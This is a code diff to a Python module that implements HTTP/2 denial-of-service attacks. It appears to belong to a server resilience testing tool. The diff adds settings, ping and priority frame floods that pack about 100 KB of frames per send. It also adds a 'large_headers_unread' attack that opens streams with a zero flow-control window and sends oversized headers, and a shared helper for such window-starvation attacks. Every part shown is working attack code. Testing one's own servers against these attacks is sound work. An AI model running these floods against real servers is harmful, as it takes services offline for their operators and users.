@@ -16,6 +16,7 @@ from hyperframe.frame import (
     GoAwayFrame,
     HeadersFrame,
     PingFrame,
+    PriorityFrame,
     RstStreamFrame,
     SettingsFrame,
     WindowUpdateFrame,
@@ -25,6 +26,7 @@ from .target import Outcome, Target, paced
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 FRAME_BYTES = 16 * 1024
+MAX_BYTES_AT_ONCE = 100_000
 
 
 class Connection:
@@ -167,14 +169,22 @@ def continuation_flood(target: Target, seconds: float) -> Outcome:
 
 def settings_flood(target: Target, seconds: float) -> Outcome:
     """Send settings, each of which has to be acknowledged."""
-    flood = [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}) for _ in range(10)]
-    return repeat(target, seconds, 500, lambda connection: connection.send(*flood))
+    return _flood(target, seconds, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}))
 
 
 def ping_flood(target: Target, seconds: float) -> Outcome:
     """Send pings, each of which has to be answered."""
-    flood = [PingFrame(0, b"01234567") for _ in range(10)]
-    return repeat(target, seconds, 500, lambda connection: connection.send(*flood))
+    return _flood(target, seconds, PingFrame(0, b"01234567"))
+
+
+def priority_flood(target: Target, seconds: float) -> Outcome:
+    """Send priorities, which the server ignores."""
+    return _flood(target, seconds, PriorityFrame(1))
+
+
+def _flood(target: Target, seconds: float, frame: Frame) -> Outcome:
+    frames = frame.serialize() * (MAX_BYTES_AT_ONCE // len(frame.serialize()))
+    return repeat(target, seconds, 50, lambda connection: connection.send(start=frames))
 
 
 def empty_frames(target: Target, seconds: float) -> Outcome:
@@ -195,13 +205,32 @@ def empty_frames(target: Target, seconds: float) -> Outcome:
 
 def zero_window(target: Target, seconds: float) -> Outcome:
     """Request large responses without reading them, on 4 connections of 100 streams."""
+    return _ask_without_window(target, seconds, 100, lambda connection: connection.request(path=target.large_path))
+
+
+def large_headers_unread(target: Target, seconds: float) -> Outcome:
+    """Send 60 KB of headers for each of 100 streams of 4 connections, and read no response."""
+    # Never indexed, so that the server's table stays that of the connection's encoder.
+    block = Encoder().encode([(f"x-{number}", "a" * 15_000, True) for number in range(4)], huffman=False)
+
+    def request(connection: Connection) -> HeadersFrame:
+        frame = connection.request()
+        frame.data += block
+        return frame
+
+    return _ask_without_window(target, seconds, 400, request)
+
+
+def _ask_without_window(
+    target: Target, seconds: float, per_second: float, request: Callable[[Connection], HeadersFrame]
+) -> Outcome:
     outcome = Outcome()
     settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
     connections = [Connection(target, outcome, settings) for _ in range(4)]
-    for number in paced(seconds, 100):
+    for number in paced(seconds, per_second):
         connection = connections[number % 4]
         if connection.is_open and number < 400:
-            connection.send(connection.request(path=target.large_path))
+            connection.send(request(connection))
             outcome.sent += 1
         elif connection.is_open:
             connection.receive()
